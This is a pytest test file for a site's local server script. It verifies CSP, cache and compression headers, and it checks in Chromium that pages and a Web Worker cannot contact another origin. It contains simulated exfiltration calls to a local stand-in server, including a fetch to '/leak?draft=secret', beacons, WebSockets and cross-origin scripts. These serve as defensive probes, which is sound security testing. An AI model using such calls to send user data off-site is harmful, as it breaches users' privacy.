"""``make serve`` (tools/serve.py): the headers a production server sends, and what they buy.

The decisive one: the Web Worker, where the draft is checked, runs under the
policy of its own HTTP response (a page's ``<meta>`` CSP does not reach it).
Served by tools/serve.py, a ``fetch`` to another origin from inside the worker
is blocked; served without the header (plain ``http.server``), the same call
reaches the other server, which shows the test can fail.
"""

from __future__ import annotations

import functools
import http.server
import importlib.util
import json
import re
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from browser_support import launched_chromium
from playwright.sync_api import Browser
from test_checker_browser import LOAD_TIMEOUT, VIOLATING, checker_site, wait_findings  # noqa: F401

REPO = Path(__file__).resolve().parent.parent


def _serve_module():
    spec = importlib.util.spec_from_file_location("etika_serve", REPO / "tools" / "serve.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


serve = _serve_module()


def _meta_csp() -> str:
    text = (REPO / "docs" / "checker.md").read_text(encoding="utf-8")
    return re.search(r'"http-equiv=Content-Security-Policy":\s*"([^"]+)"', text).group(1)


def _running(httpd: http.server.HTTPServer) -> Iterator[str]:
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Another origin: records every request it gets and answers 200."""

    hits: list[str]

    def do_GET(self) -> None:  # noqa: N802
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"draft received")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []
    handler = type("R", (_Recorder,), {"hits": hits})
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    for origin in _running(httpd):
        yield origin, hits


@pytest.fixture(scope="module")
def served(checker_site: Path) -> Iterator[str]:  # noqa: F811
    yield from _running(serve.make_server(checker_site, port=0))


@pytest.fixture(scope="module")
def plain(checker_site: Path) -> Iterator[str]:  # noqa: F811
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(checker_site))

    class Quiet(http.server.ThreadingHTTPServer):
        pass

    httpd = Quiet(("127.0.0.1", 0), handler)
    httpd.RequestHandlerClass.log_message = lambda *a: None  # type: ignore[method-assign]
    yield from _running(httpd)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with launched_chromium() as b:
        yield b


# ---------------------------------------------------------------------------
# The headers


def test_headers_per_path():
    page = serve.page_csp()
    assert page == _meta_csp().rstrip("; ") + "; frame-ancestors 'self'"
    h = serve.headers_for("/ms/checker.html", page)
    assert h["Content-Security-Policy"] == page and h["Cache-Control"] == "no-cache"
    h = serve.headers_for("/en/_static/wasm/etika-worker.js", page)
    assert h["Content-Security-Policy"] == serve.WORKER_CSP
    directives = dict(d.strip().split(" ", 1) for d in serve.WORKER_CSP.split(";"))
    assert directives == {"default-src": "'none'", "script-src": "'self' 'wasm-unsafe-eval'", "connect-src": "'self'"}
    h = serve.headers_for("/ms/_static/wasm/pyodide/314.0.7/pyodide.asm.wasm", page)
    assert h["Cache-Control"] == "public, max-age=31536000, immutable"
    h = serve.headers_for("/ms/_static/wasm/snapshots/0123456789abcdef.bin.gz", page)
    assert h["Cache-Control"] == "public, max-age=31536000, immutable"
    # Every other page (and file) under the site's policy: the checker's without 'wasm-unsafe-eval'.
    site = serve.site_csp(page)
    assert site == page.replace(" 'wasm-unsafe-eval'", "") and "'wasm-unsafe-eval'" not in site
    directives = dict(d.strip().split(" ", 1) for d in site.split(";"))
    assert directives["default-src"] == directives["connect-src"] == directives["worker-src"] == "'self'"
    for path in ("/ms/index.html", "/", "/index.html", "/en/sop.html", "/etika-sw.js", "/muat-turun/x.epub"):
        assert serve.headers_for(path, page)["Content-Security-Policy"] == site, path
    assert serve.headers_for("/ms/_static/wasm/manifest.json", page)["Cache-Control"] == "no-cache"


def test_the_readme_server_examples_send_the_same_policies():
    """nginx and Apache in the deployment notes (docs-dev/deployment.md) carry these exact policies."""
    readme = (REPO / "docs-dev" / "deployment.md").read_text(encoding="utf-8")
    nginx = re.search(r"```nginx\n(.*?)```", readme, re.S).group(1)
    apache = re.search(r"```apache\n(.*?)```", readme, re.S).group(1)
    for block in (nginx, apache):
        assert serve.page_csp() in block
        assert serve.WORKER_CSP in block
        assert serve.site_csp() in block
        # the snapshot sent as stored, labelled gzip (what tools/serve.py does: PRECOMPRESSED)
        assert "Content-Encoding gzip" in block and "application/octet-stream" in block


def test_serve_script_starts_and_sends_the_headers(checker_site: Path):  # noqa: F811
    proc = subprocess.Popen(
        [sys.executable, str(REPO / "tools" / "serve.py"), "--dir", str(checker_site), "--port", "0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        line = proc.stdout.readline()
        origin = re.search(r"http://127\.0\.0\.1:\d+", line).group(0)
        with urllib.request.urlopen(origin + "/en/_static/wasm/etika-worker.js") as r:
            assert r.headers["Content-Security-Policy"] == serve.WORKER_CSP
            assert r.headers["Content-Type"].startswith("text/javascript")
        with urllib.request.urlopen(origin + "/ms/checker.html") as r:
            assert r.headers["Content-Security-Policy"].endswith("frame-ancestors 'self'")
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_serve_script_refuses_a_directory_without_a_site(tmp_path: Path):
    proc = subprocess.run(
        [sys.executable, str(REPO / "tools" / "serve.py"), "--dir", str(tmp_path), "--port", "0"],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert proc.returncode == 2 and "make html" in proc.stderr


# ---------------------------------------------------------------------------
# In Chromium: the worker cannot reach another origin


def _worker_fetch(browser: Browser, origin: str, target: str) -> str:
    context = browser.new_context(service_workers="block")
    try:
        page = context.new_page()
        page.goto(f"{origin}/ms/checker.html")
        page.wait_for_selector("#etika-checker[data-state=ready]", timeout=LOAD_TIMEOUT)
        workers = [w for w in page.workers if "/etika-worker.js" in w.url]
        assert len(workers) == 1, [w.url for w in page.workers]
        outcome = workers[0].evaluate(
            "url => fetch(url).then(r => r.text(), e => 'blocked: ' + e.message)", target + "/leak?draft=secret"
        )
        # The checker still works under these headers.
        page.fill("#etika-post-text", VIOLATING)
        wait_findings(page, "personal-attack")
        return outcome
    finally:
        context.close()


def test_worker_cannot_fetch_another_origin(browser: Browser, served: str, elsewhere: tuple[str, list[str]]):
    other, hits = elsewhere
    before = len(hits)
    outcome = _worker_fetch(browser, served, other)
    assert outcome.startswith("blocked:"), outcome
    assert hits[before:] == []


def test_without_the_header_the_worker_could(browser: Browser, plain: str, elsewhere: tuple[str, list[str]]):
    """The control: the same call from a worker served without a CSP header reaches the other origin."""
    other, hits = elsewhere
    before = len(hits)
    outcome = _worker_fetch(browser, plain, other)
    assert outcome == "draft received"
    assert hits[before:] == ["/leak?draft=secret"]


def test_compresses_what_compresses_and_revalidates_with_an_etag(checker_site: Path):  # noqa: F811
    import gzip as gz

    seen: list[tuple[str, int, int]] = []
    httpd = serve.make_server(checker_site, port=0, on_request=lambda *hit: seen.append(hit))
    for origin in _running(httpd):
        wasm = next((checker_site / "ms" / "_static" / "wasm" / "pyodide").glob("*/pyodide.asm.wasm"))
        url = origin + "/" + str(wasm.relative_to(checker_site))
        with urllib.request.urlopen(urllib.request.Request(url, headers={"Accept-Encoding": "gzip"})) as r:
            body = r.read()
            assert r.headers["Content-Encoding"] == "gzip" and r.headers["Content-Type"] == "application/wasm"
            etag = r.headers["ETag"]
        assert gz.decompress(body) == wasm.read_bytes() and len(body) < wasm.stat().st_size // 2
        try:
            urllib.request.urlopen(
                urllib.request.Request(url, headers={"Accept-Encoding": "gzip", "If-None-Match": etag})
            )
            raise AssertionError("expected 304")
        except urllib.error.HTTPError as e:
            assert e.code == 304
        # Already compressed: sent as it is.
        whl = next((checker_site / "ms" / "_static" / "wasm" / "wheels").glob("*.whl"))
        with urllib.request.urlopen(
            urllib.request.Request(
                origin + "/" + str(whl.relative_to(checker_site)), headers={"Accept-Encoding": "gzip"}
            )
        ) as r:
            assert r.headers.get("Content-Encoding") is None and r.read() == whl.read_bytes()
    paths = [(p.rsplit("/", 1)[-1], status, sent) for p, status, sent in seen]
    assert paths[0] == ("pyodide.asm.wasm", 200, len(body)) and paths[1] == ("pyodide.asm.wasm", 304, 0)
    assert paths[2] == (whl.name, 200, whl.stat().st_size) and len(paths) == 3


def test_the_snapshot_is_sent_as_stored_labelled_gzip(checker_site: Path):  # noqa: F811
    """Stored gzip-compressed; sent as is with Content-Encoding: gzip, so the
    browser decodes it (and a service worker's cache keeps it decoded); a
    client that does not accept gzip gets the same bytes unlabelled."""
    import gzip as gz

    wasm = checker_site / "ms" / "_static" / "wasm"
    snapshot = wasm / json.loads((wasm / "manifest.json").read_text())["snapshot"]["file"]
    stored = snapshot.read_bytes()
    httpd = serve.make_server(checker_site, port=0)
    for origin in _running(httpd):
        url = origin + "/" + str(snapshot.relative_to(checker_site))
        with urllib.request.urlopen(urllib.request.Request(url, headers={"Accept-Encoding": "gzip, deflate"})) as r:
            assert r.headers["Content-Encoding"] == "gzip" and r.headers["Content-Type"] == "application/octet-stream"
            assert "immutable" in r.headers["Cache-Control"] and r.headers["Vary"] == "Accept-Encoding"
            assert r.read() == stored
            etag = r.headers["ETag"]
        try:
            urllib.request.urlopen(
                urllib.request.Request(url, headers={"Accept-Encoding": "gzip", "If-None-Match": etag})
            )
            raise AssertionError("expected 304")
        except urllib.error.HTTPError as e:
            assert e.code == 304
        with urllib.request.urlopen(urllib.request.Request(url, headers={"Accept-Encoding": "identity"})) as r:
            assert r.headers.get("Content-Encoding") is None and r.read() == stored
    assert gz.decompress(stored)[:4] != stored[:4]  # what the browser hands the worker: the raw snapshot


# ---------------------------------------------------------------------------
# Every page of the site under a policy: nothing off-site


def test_no_page_can_reach_another_origin(browser: Browser, served: str, elsewhere: tuple[str, list[str]]):
    """A handbook page, the language chooser and the search page, served by tools/serve.py: a fetch, a beacon,
    a WebSocket, a worker and a script of another origin are all refused, and the pages still work."""
    other, hits = elsewhere
    before = len(hits)
    context = browser.new_context(service_workers="block")
    violations: list[str] = []
    try:
        page = context.new_page()
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        for path in ("/", "/ms/sop.html", "/en/index.html"):
            page.goto(served + path)
            assert page.locator("h1").count() >= 1
            tries = page.evaluate(
                """async (other) => {
                    const out = {};
                    out.fetch = await fetch(other + '/fetch?draft=secret').then(() => 'sent', e => 'blocked');
                    try { out.beacon = navigator.sendBeacon(other + '/beacon', 'draft') ? 'queued' : 'refused'; }
                    catch (e) { out.beacon = 'blocked'; }
                    try { new WebSocket(other.replace('http', 'ws') + '/ws'); out.socket = 'opened'; }
                    catch (e) { out.socket = 'blocked'; }
                    try { new Worker(other + '/worker.js'); out.worker = 'started'; } catch (e) { out.worker = 'blocked'; }
                    out.script = await new Promise((resolve) => {
                      const s = document.createElement('script');
                      s.src = other + '/script.js';
                      s.onload = () => resolve('loaded');
                      s.onerror = () => resolve('blocked');
                      document.head.appendChild(s);
                    });
                    return out;
                }""",
                other,
            )
            assert tries["fetch"] == "blocked" and tries["script"] == "blocked", (path, tries)
        # The search page still searches under the policy.
        page.goto(served + "/ms/search.html?q=sebar")
        page.wait_for_selector("#search-results li", timeout=LOAD_TIMEOUT)
        page.wait_for_timeout(500)  # a beacon is sent after the page's task
    finally:
        context.close()
    assert hits[before:] == [], hits[before:]
    assert violations, "no violation reported: was the policy sent?"
